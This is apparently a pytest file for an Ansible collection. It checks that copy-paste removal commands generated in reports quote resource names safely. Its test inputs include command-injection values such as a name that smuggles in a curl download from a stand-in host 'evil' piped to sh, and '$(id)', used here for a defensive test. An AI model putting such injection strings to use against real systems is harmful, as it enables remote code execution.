"""Commands to copy from a report are safe for any name."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from ansible_collections.mlfleet.stack.plugins.module_utils.access.strays import stray

PLUGINS = Path(__file__).parents[2] / "plugins"


@pytest.mark.parametrize("name", ["x;curl${IFS}evil|sh", "it's", "$(id)", "a\nb", "plain"])
def test_name_is_one_word_of_the_command(name):
    told = stray("file", name, ["rm", name], ["systemctl", "daemon-reload"])
    assert shlex.split(told["remove"]) == ["rm", name, "&&", "systemctl", "daemon-reload"]


def test_nobody_else_writes_such_commands():
    files = [*(PLUGINS / "modules").glob("*.py"), *(PLUGINS / "module_utils").rglob("*.py")]
    assert [path.name for path in files if '"remove":' in path.read_text()] == ["strays.py"]
